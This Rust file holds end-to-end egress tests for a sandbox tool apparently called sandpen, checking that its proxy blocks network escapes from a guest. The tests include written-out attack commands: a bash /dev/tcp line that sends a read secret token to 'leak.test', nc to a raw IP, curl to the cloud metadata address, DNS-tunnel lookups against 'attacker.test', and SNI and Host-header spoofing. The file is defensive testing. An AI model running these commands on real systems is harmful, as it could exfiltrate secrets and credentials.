//! End-to-end egress tests: every rule attacked from inside a real guest, as
//! root, against real servers on the host's loopback (reached as `*.test` names
//! through `--add-host`). Each test reads the network log and compares the
//! proxy's decision with `sandpen policy check`.

use std::io::{BufRead, BufReader};
use std::process::{Child, Command, Output, Stdio};
use std::sync::OnceLock;
use std::time::{Duration, Instant};

use libtest_mimic::{Arguments, Failed, Trial};

mod common;
use common::{check, text, Cli};

const NAME: &str = "egress";

struct Env {
    cli: Cli,
    root: tempfile::TempDir,
    http_port: u16,
    echo_port: u16,
    tls_port: u16,
    servers: std::sync::Mutex<Child>,
}

/// An HTTP and an HTTPS server (self-signed for allowed.test) and a raw TCP
/// echo server on 127.0.0.1, logging every request path (and echoed line)
/// to `requests.log`.
const SERVERS: &str = r#"
import http.server, ssl, sys, threading, os
root = sys.argv[1]
log = open(os.path.join(root, "requests.log"), "a", buffering=1)
class H(http.server.BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"  # keep-alive, as real servers
    def do_GET(self):
        log.write(self.path + "\n")
        body = ("hello " + self.server.name + " " + self.path + "\n").encode()
        self.send_response(200)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)
    def log_message(self, *a):
        pass
plain = http.server.ThreadingHTTPServer(("127.0.0.1", 0), H)
plain.name = "plain"
tls = http.server.ThreadingHTTPServer(("127.0.0.1", 0), H)
tls.name = "tls"
ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
ctx.load_cert_chain(os.path.join(root, "cert.pem"), os.path.join(root, "key.pem"))
tls.socket = ctx.wrap_socket(tls.socket, server_side=True)
import socketserver
class Echo(socketserver.BaseRequestHandler):
    def handle(self):
        while True:
            data = self.request.recv(4096)
            if not data:
                return
            log.write("echo " + data.decode(errors="replace").strip() + "\n")
            self.request.sendall(data)
echo = socketserver.ThreadingTCPServer(("127.0.0.1", 0), Echo)
for s in (plain, tls, echo):
    threading.Thread(target=s.serve_forever, daemon=True).start()
print(plain.server_address[1], tls.server_address[1], echo.server_address[1], flush=True)
threading.Event().wait()
"#;

fn env() -> &'static Env {
    static ENV: OnceLock<Env> = OnceLock::new();
    ENV.get_or_init(|| {
        let (root, ws) = common::workspace("sandpen-egress-", NAME);
        let status = Command::new("openssl")
            .args([
                "req",
                "-x509",
                "-newkey",
                "rsa:2048",
                "-nodes",
                "-days",
                "2",
                "-subj",
                "/CN=allowed.test",
            ])
            .args(["-addext", "subjectAltName=DNS:allowed.test"])
            .arg("-keyout")
            .arg(root.path().join("key.pem"))
            .arg("-out")
            .arg(root.path().join("cert.pem"))
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .status()
            .expect("openssl");
        assert!(status.success(), "making the test certificate");
        let mut servers = Command::new("python3")
            .arg("-c")
            .arg(SERVERS)
            .arg(root.path())
            .stdout(Stdio::piped())
            .stderr(Stdio::null())
            .spawn()
            .expect("python3");
        let mut line = String::new();
        BufReader::new(servers.stdout.take().unwrap())
            .read_line(&mut line)
            .unwrap();
        let ports: Vec<u16> = line
            .split_whitespace()
            .map(|p| p.parse().unwrap())
            .collect();
        Env {
            cli: Cli::new(ws),
            root,
            http_port: ports[0],
            tls_port: ports[1],
            echo_port: ports[2],
            servers: std::sync::Mutex::new(servers),
        }
    })
}

fn sandpen(args: &[&str]) -> Output {
    env().cli.run(args)
}

fn ok(args: &[&str]) -> Result<String, Failed> {
    env().cli.ok(args)
}

/// Runs `sh` in the guest as root; returns (exit code, stdout + stderr).
fn guest(sh: &str) -> (i32, String) {
    let out = sandpen(&["exec", "-u", "root", NAME, "--", "sh", "-c", sh]);
    (
        out.status.code().unwrap_or(-1),
        text(&out.stdout) + &text(&out.stderr),
    )
}

fn requests_seen() -> String {
    std::fs::read_to_string(env().root.path().join("requests.log")).unwrap_or_default()
}

/// The newest log record for `host:port`, waiting briefly for it to be written.
fn last_record(host: &str, port: u16) -> Result<serde_json::Value, Failed> {
    let deadline = Instant::now() + Duration::from_secs(5);
    loop {
        let out = ok(&["policy", "log", NAME, "--json", "--limit", "1000"])?;
        let found = out
            .lines()
            .rev()
            .filter_map(|l| serde_json::from_str::<serde_json::Value>(l).ok())
            .find(|r| r["host"] == host && r["port"] == port);
        if let Some(r) = found {
            return Ok(r);
        }
        if Instant::now() > deadline {
            return Err(format!("no log record for {host}:{port}:\n{out}").into());
        }
        std::thread::sleep(Duration::from_millis(100));
    }
}

/// `policy check` must say what the proxy did.
fn check_agrees(host: &str, port: u16, proxy_decision: &str) -> Result<(), Failed> {
    let out = sandpen(&[
        "policy",
        "check",
        "network",
        &format!("{host}:{port}"),
        NAME,
    ]);
    let said = text(&out.stdout);
    let expected_word = match proxy_decision {
        "allow" => "allowed",
        "deny" => "denied",
        _ => "would deny",
    };
    check(
        said.contains(expected_word),
        format!("policy check says {said:?}, the proxy did {proxy_decision}"),
    )
}

/// Creates and starts the sandbox once, whichever test runs first.
fn ready() -> Result<(), Failed> {
    static READY: OnceLock<Result<(), String>> = OnceLock::new();
    READY
        .get_or_init(|| setup().map_err(|e| format!("setting up the sandbox: {e:?}")))
        .clone()
        .map_err(Failed::from)
}

fn setup() -> Result<(), Failed> {
    let e = env();
    ok(&["policy", "init", "deny-all"])?;
    ok(&[
        "create",
        "--cpus",
        "1",
        "--memory",
        "1G",
        "--add-host",
        "allowed.test:127.0.0.1",
        "--add-host",
        "denied.test:127.0.0.1",
        "--add-host",
        "live.test:127.0.0.1",
        "--add-host",
        "leak.test:127.0.0.1",
    ])?;
    ok(&["policy", "allow", "network", "allowed.test", NAME])?;
    ok(&["policy", "deny", "network", "denied.test", NAME])?;
    ok(&["policy", "allow", "network", "localhost", NAME])?;
    // Raw TCP (the echo server) needs ` raw` on a name rule.
    ok(&["policy", "allow", "network", "live.test raw", NAME])?;
    ok(&["policy", "allow", "network", "leak.test raw", NAME])?;
    // Reading secrets/token sets `secret-read`; no host here is a sink.
    std::fs::write(
        e.cli.ws.join(".sandpen.toml"),
        "[flow]\nsecret = [\"secrets/**\"]\n",
    )?;
    std::fs::create_dir_all(e.cli.ws.join("secrets"))?;
    std::fs::write(e.cli.ws.join("secrets/token"), format!("{LEAK_TOKEN}\n"))?;
    ok(&["start", NAME])?;
    Ok(())
}

const LEAK_TOKEN: &str = "tok-4f1e8c2a9b7d";

/// The guest opens a connection to an allowed host that is not a trusted
/// sink, then reads the secret, then writes it as the connection's first
/// bytes: they leave after the label, so the label decides them, and the
/// listener never gets them. (The flow labels are reset afterwards, so the
/// other tests see an unlabelled sandbox.)
fn first_bytes_after_a_secret_read_never_leave() -> Result<(), Failed> {
    ready()?;
    let port = env().echo_port;
    let script = format!(
        "exec 3<>/dev/tcp/leak.test/{port} || exit 9; \
         t=$(cat secrets/token); printf \"\\0%s\\n\" \"$t\" >&3 2>/dev/null; \
         timeout 5 cat <&3; echo end"
    );
    let result = (|| {
        let (code, out) = guest(&format!("bash -c '{script}'"));
        check(out.contains("end"), format!("guest side: {code} {out}"))?;
        check(
            !requests_seen().contains(LEAK_TOKEN),
            "the secret reached the listener",
        )?;
        let r = last_record("leak.test", port)?;
        check(
            r["decision"] == "deny"
                && r["reason"]
                    .as_str()
                    .unwrap_or("")
                    .starts_with("policy-changed: flow: secret-read"),
            r.to_string(),
        )
    })();
    ok(&["flow", "reset", NAME])?;
    result
}

fn allowed_https_through_both_paths() -> Result<(), Failed> {
    ready()?;
    let port = env().tls_port;
    let (code, out) = guest(&format!(
        "curl -sS -k -m 10 https://allowed.test:{port}/via-proxy"
    ));
    check(
        code == 0 && out.contains("hello tls /via-proxy"),
        format!("HTTPS_PROXY path: {code} {out}"),
    )?;
    let (code, out) = guest(&format!(
        "curl -sS -k -m 10 --noproxy '*' https://allowed.test:{port}/transparent"
    ));
    check(
        code == 0 && out.contains("hello tls /transparent"),
        format!("transparent path: {code} {out}"),
    )?;
    let r = last_record("allowed.test", port)?;
    check(
        r["decision"] == "allow" && r["mode"] == "transparent",
        format!("{r}"),
    )?;
    check_agrees("allowed.test", port, "allow")
}

fn denied_host_is_refused_and_logged_with_its_rule() -> Result<(), Failed> {
    ready()?;
    let port = env().tls_port;
    let before = requests_seen();
    let (code, _) = guest(&format!(
        "curl -sS -k -m 10 --noproxy '*' https://denied.test:{port}/x"
    ));
    check(code != 0, "curl to denied.test succeeded")?;
    let r = last_record("denied.test", port)?;
    check(r["decision"] == "deny", format!("{r}"))?;
    check(
        r["rule"]
            .as_str()
            .unwrap_or("")
            .contains("deny denied.test"),
        format!("rule not named: {r}"),
    )?;
    check(requests_seen() == before, "the server saw a request")?;
    check_agrees("denied.test", port, "deny")
}

fn raw_ip_without_a_rule_is_denied() -> Result<(), Failed> {
    ready()?;
    let (code, _) = guest("echo hi | nc -w 3 203.0.113.7 9999");
    let r = last_record("203.0.113.7", 9999)?;
    check(r["decision"] == "deny", format!("{r}"))?;
    let _ = code;
    let (_, _) = guest("curl -sS -m 5 --noproxy '*' http://169.254.169.254/latest/meta-data/");
    let r = last_record("169.254.169.254", 80)?;
    check(r["decision"] == "deny", format!("metadata address: {r}"))?;
    check_agrees("203.0.113.7", 9999, "deny")?;
    check_agrees("169.254.169.254", 80, "deny")
}

fn a_name_resolving_to_loopback_is_denied_and_nothing_arrives() -> Result<(), Failed> {
    ready()?;
    let port = env().http_port;
    // The guest's own `localhost` is its loopback, so the name goes to the host
    // through the proxy port, where the host resolves it to 127.0.0.1.
    let (code, _) = guest(&format!(
        "curl -sS -f -m 5 --noproxy '' -x http://127.0.0.1:3128 http://localhost:{port}/must-not-arrive"
    ));
    check(code != 0, "curl through the proxy to localhost succeeded")?;
    let tls = env().tls_port;
    let (code, _) = guest(&format!(
        "curl -sS -k -m 5 --noproxy '' -x http://127.0.0.1:3128 https://localhost:{tls}/must-not-arrive-either"
    ));
    check(code != 0, "CONNECT to localhost succeeded")?;
    check(
        !requests_seen().contains("must-not-arrive"),
        "the loopback server was reached",
    )?;
    let r = last_record("localhost", port)?;
    check(
        r["decision"] == "deny"
            && r["reason"]
                .as_str()
                .unwrap_or("")
                .contains("blocked-address"),
        format!("{r}"),
    )?;
    check_agrees("localhost", port, "deny")
}

fn sni_mismatch_is_denied() -> Result<(), Failed> {
    ready()?;
    let port = env().tls_port;
    let (_, out) = guest(&format!(
        "echo | timeout 10 openssl s_client -connect allowed.test:{port} -servername denied.test 2>&1 | head -5"
    ));
    let r = last_record("allowed.test", port)?;
    check(
        r["decision"] == "deny" && r["reason"].as_str().unwrap_or("").contains("sni-mismatch"),
        format!("{r}\n{out}"),
    )
}

fn host_header_mismatch_is_denied() -> Result<(), Failed> {
    ready()?;
    let port = env().http_port;
    let before = requests_seen();
    let (_, out) = guest(&format!(
        "curl -sS -m 5 --noproxy '*' -H 'Host: denied.test' http://allowed.test:{port}/host-mismatch"
    ));
    let r = last_record("allowed.test", port)?;
    check(
        r["decision"] == "deny" && r["reason"].as_str().unwrap_or("").contains("host-mismatch"),
        format!("{r}\n{out}"),
    )?;
    check(
        requests_seen() == before,
        "the server saw the mismatched request",
    )
}

/// curl keeps its proxy connection for the next URL: the proxy must check
/// each request on it, not just the first.
fn a_kept_alive_proxy_connection_checks_every_request() -> Result<(), Failed> {
    ready()?;
    let port = env().http_port;
    let (_, out) = guest(&format!(
        "curl -sS -m 10 -x http://127.0.0.1:3128 --noproxy '' -w 'connects=%{{num_connects}} code=%{{http_code}}\\n' \
         http://allowed.test:{port}/ka-1 http://allowed.test:{port}/ka-2 http://denied.test:{port}/ka-3"
    ));
    let lines: Vec<&str> = out.lines().filter(|l| l.contains("connects=")).collect();
    check(
        lines.len() == 3
            && lines[0].ends_with("code=200")
            && lines[1] == "connects=0 code=200"
            && lines[2].ends_with("code=403"),
        format!("the second URL reuses the connection, the third is refused:\n{out}"),
    )?;
    let seen = requests_seen();
    check(
        seen.contains("/ka-1") && seen.contains("/ka-2") && !seen.contains("/ka-3"),
        format!("the server saw: {seen}"),
    )?;
    let r = last_record("denied.test", port)?;
    check(
        r["decision"] == "deny" && r["path"] == "/ka-3" && r["rule"] == "deny denied.test",
        r.to_string(),
    )?;
    let r = last_record("allowed.test", port)?;
    check(
        r["decision"] == "allow" && r["path"] == "/ka-2" && r["status"] == 200,
        r.to_string(),
    )
}

/// A raw TCP connection opened while the host was allowed is cut as soon as
/// the policy stops allowing it: its next bytes never leave.
fn a_policy_change_cuts_an_open_connection() -> Result<(), Failed> {
    ready()?;
    let port = env().echo_port;
    let script = format!(
        "exec 3<>/dev/tcp/live.test/{port} || exit 9; \
         echo live-before >&3; head -c 12 <&3; echo; \
         sleep 6; \
         echo live-after >&3 2>/dev/null; timeout 5 cat <&3; echo end"
    );
    let shell = std::thread::spawn(move || guest(&format!("bash -c '{script}'")));
    // Wait until the first line went through, then take the permission away.
    let deadline = Instant::now() + Duration::from_secs(20);
    while !requests_seen().contains("echo live-before") {
        if Instant::now() > deadline {
            return Err("the first line never arrived".into());
        }
        std::thread::sleep(Duration::from_millis(100));
    }
    ok(&["policy", "deny", "network", "live.test", NAME])?;
    let (code, out) = shell.join().map_err(|_| "the guest shell panicked")?;
    check(
        out.contains("live-before") && !out.contains("live-after"),
        format!("guest side: {code} {out}"),
    )?;
    check(
        !requests_seen().contains("live-after"),
        "the bytes sent after the change reached the server",
    )?;
    let r = last_record("live.test", port)?;
    check(
        r["decision"] == "deny"
            && r["reason"] == "policy-changed: denied-by-rule"
            && r["rule"] == "deny live.test",
        r.to_string(),
    )
}

fn no_dns_tunnel_and_no_udp_out() -> Result<(), Failed> {
    ready()?;
    // TXT is answered by the stub from the host's log of refusals (the
    // `sandpen-request --why` text), never by asking anyone for the name.
    let (_, out) = guest("dig +time=2 +tries=1 TXT x.attacker.test");
    check(
        out.contains("no refused connection to x.attacker.test") && out.contains("ANSWER: 1"),
        format!("TXT: {out}"),
    )?;
    let (_, out) = guest("dig +time=2 +tries=1 NULL x.attacker.test");
    check(
        out.contains("REFUSED") && !out.contains("ANSWER: 1"),
        format!("NULL: {out}"),
    )?;
    let (_, out) = guest("dig +time=2 +tries=1 A data.attacker.test");
    check(
        out.contains("198.18.") || out.contains("198.19."),
        format!("A should get a synthetic address: {out}"),
    )?;
    let (code, out) = guest("dig +time=2 +tries=1 @8.8.8.8 example.com");
    check(
        code != 0 || out.contains("timed out"),
        format!("UDP to 8.8.8.8 answered: {out}"),
    )?;
    let log = ok(&["policy", "log", NAME, "--json", "--limit", "1000"])?;
    check(
        !log.contains("8.8.8.8") && !log.contains("attacker.test"),
        format!("the host saw it: {log}"),
    )
}

fn ipv6_fails() -> Result<(), Failed> {
    ready()?;
    let (code, _) = guest("curl -sS -m 5 -6 --noproxy '*' http://[2001:db8::1]/");
    check(code != 0, "IPv6 connection succeeded")?;
    let (code, _) = guest("nc -6 -w 3 2001:db8::1 80 </dev/null");
    check(code != 0, "IPv6 nc succeeded")
}

fn learn_mode_lets_through_and_logs_would_deny() -> Result<(), Failed> {
    ready()?;
    let port = env().http_port;
    ok(&["policy", "mode", "learn", NAME])?;
    let (code, out) = guest(&format!(
        "curl -sS -m 10 --noproxy '*' http://denied.test:{port}/learned"
    ));
    ok(&["policy", "mode", "enforce", NAME])?;
    check(
        code == 0 && out.contains("hello plain /learned"),
        format!("learn mode blocked: {code} {out}"),
    )?;
    let r = last_record("denied.test", port)?;
    check(r["decision"] == "would-deny", format!("{r}"))?;
    // And back in enforce mode it is denied again.
    let (code, _) = guest(&format!(
        "curl -sS -f -m 10 --noproxy '*' http://denied.test:{port}/enforced"
    ));
    check(code != 0, "enforce mode let it through")
}

fn malformed_policy_names_the_line_and_blocks_start() -> Result<(), Failed> {
    ready()?;
    ok(&["stop", NAME])?;
    let path = env()
        .cli
        .state
        .path()
        .join(format!("sandpen/sandboxes/{NAME}/policy.toml"));
    let good = std::fs::read_to_string(&path)?;
    std::fs::write(
        &path,
        format!("{good}\n[[network]]\naction = \"allow\"\ntarget = \n"),
    )?;
    let out = sandpen(&["start", NAME]);
    let err = text(&out.stderr);
    std::fs::write(&path, good)?;
    check(
        out.status.code() == Some(125),
        format!("start with a bad policy: {:?} {err}", out.status.code()),
    )?;
    check(
        err.contains("policy.toml:") && err.trim().lines().count() == 1,
        format!("no line number: {err}"),
    )?;
    // Not running: `failed`, with the line in the reason (`ls` says why the
    // last start failed).
    let state = ok(&["ls", "--json"])?;
    check(
        !state.contains("\"running\"")
            && state.contains("\"failed\"")
            && state.contains("policy.toml:"),
        format!("it started anyway, or ls does not say why: {state}"),
    )
}

/// A trusted sink that only the workspace's `.sandpen.toml` names holds
/// after `secret-read` only through interception: `sandpen run` and
/// `start` name, one line each, the sinks with no route or no secret, and stops naming one
/// once its secret is set. A sink of the user's own file is never named.
fn run_names_workspace_sinks_that_will_not_count() -> Result<(), Failed> {
    ready()?;
    let e = env();
    let file = e.cli.ws.join(".sandpen.toml");
    let original = std::fs::read_to_string(&file)?;
    std::fs::write(
        &file,
        format!("{original}trusted_sinks = [\"sink.test\", \"api.openai.com\", \"own.test\"]\n"),
    )?;
    let result = (|| {
        ok(&["policy", "trust", NAME])?;
        let own = e
            .cli
            .state
            .path()
            .join(format!("sandpen/sandboxes/{NAME}/policy.toml"));
        let good = std::fs::read_to_string(&own)?;
        std::fs::write(
            &own,
            format!("{good}\n[flow]\ntrusted_sinks = [\"own.test\"]\n"),
        )?;
        let lines = |out: &Output| -> Vec<String> {
            text(&out.stderr)
                .lines()
                .filter(|l| l.contains("trusted sink"))
                .map(str::to_string)
                .collect()
        };
        let run = || sandpen(&["run", "--", "true"]);
        let out = run();
        let said = lines(&out);
        let result = (|| {
            check(out.status.success(), format!("run: {}", text(&out.stderr)))?;
            check(
                said.len() == 2,
                format!("one line per weak sink: {said:#?}"),
            )?;
            check(
                said[0].starts_with("sandpen: the workspace's trusted sink sink.test ")
                    && said[0].contains("will not count as a sink")
                    && said[0].contains("no credential route serves it")
                    && said[0].contains(&format!("trusted_sinks of {}", own.display())),
                format!("the line for sink.test: {}", said[0]),
            )?;
            check(
                said[1].contains("sink api.openai.com ")
                    && said[1].contains("`sandpen secret set openai`"),
                format!("the line for api.openai.com: {}", said[1]),
            )?;
            // `start` says the same.
            ok(&["stop", NAME])?;
            let out = sandpen(&["start", NAME]);
            check(
                out.status.success() && lines(&out) == said,
                format!("start's lines: {}", text(&out.stderr)),
            )?;
            let mut child = e
                .cli
                .command(&["secret", "set", "openai", NAME])
                .stdin(Stdio::piped())
                .stdout(Stdio::null())
                .stderr(Stdio::null())
                .spawn()?;
            use std::io::Write;
            child
                .stdin
                .take()
                .ok_or("no stdin")?
                .write_all(b"sk-openai-egress-unused\n")?;
            check(child.wait()?.success(), "secret set openai")?;
            let out = run();
            let said = lines(&out);
            check(
                said.len() == 1 && said[0].contains("sink sink.test "),
                format!("with the openai secret set: {said:#?}"),
            )
        })();
        std::fs::write(&own, good)?;
        let _ = sandpen(&["secret", "rm", "openai", NAME]);
        result
    })();
    std::fs::write(&file, original)?;
    let _ = sandpen(&["policy", "untrust", NAME]);
    result
}

type TestFn = fn() -> Result<(), Failed>;

fn main() {
    let args = Arguments {
        test_threads: Some(1),
        ..Arguments::from_args()
    };
    let tests: Vec<(&str, TestFn)> = vec![
        (
            "allowed_https_through_both_paths",
            allowed_https_through_both_paths,
        ),
        (
            "denied_host_is_refused_and_logged_with_its_rule",
            denied_host_is_refused_and_logged_with_its_rule,
        ),
        (
            "raw_ip_without_a_rule_is_denied",
            raw_ip_without_a_rule_is_denied,
        ),
        (
            "a_name_resolving_to_loopback_is_denied_and_nothing_arrives",
            a_name_resolving_to_loopback_is_denied_and_nothing_arrives,
        ),
        ("sni_mismatch_is_denied", sni_mismatch_is_denied),
        (
            "host_header_mismatch_is_denied",
            host_header_mismatch_is_denied,
        ),
        (
            "a_kept_alive_proxy_connection_checks_every_request",
            a_kept_alive_proxy_connection_checks_every_request,
        ),
        (
            "a_policy_change_cuts_an_open_connection",
            a_policy_change_cuts_an_open_connection,
        ),
        (
            "first_bytes_after_a_secret_read_never_leave",
            first_bytes_after_a_secret_read_never_leave,
        ),
        ("no_dns_tunnel_and_no_udp_out", no_dns_tunnel_and_no_udp_out),
        ("ipv6_fails", ipv6_fails),
        (
            "learn_mode_lets_through_and_logs_would_deny",
            learn_mode_lets_through_and_logs_would_deny,
        ),
        (
            "run_names_workspace_sinks_that_will_not_count",
            run_names_workspace_sinks_that_will_not_count,
        ),
        (
            "malformed_policy_names_the_line_and_blocks_start",
            malformed_policy_names_the_line_and_blocks_start,
        ),
    ];
    let trials = tests.into_iter().map(|(n, f)| Trial::test(n, f)).collect();
    let conclusion = libtest_mimic::run(&args, trials);
    let _ = sandpen(&["rm", "-f", NAME]);
    if let Ok(mut s) = env().servers.lock() {
        let _ = s.kill();
        let _ = s.wait();
    }
    conclusion.exit();
}
